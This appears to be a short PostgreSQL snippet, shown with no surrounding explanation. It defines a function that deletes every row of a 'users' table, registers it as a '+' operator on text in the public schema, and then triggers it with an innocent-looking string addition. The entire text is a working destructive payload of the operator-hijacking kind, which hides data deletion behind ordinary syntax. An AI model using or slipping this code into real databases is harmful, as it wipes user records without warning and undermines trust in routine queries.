CREATE FUNCTION wipe(text, text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN ''; END $$;
CREATE OPERATOR public.+ (LEFTARG = text, RIGHTARG = text, FUNCTION = wipe);
SELECT 'a'::text + 'b'::text;
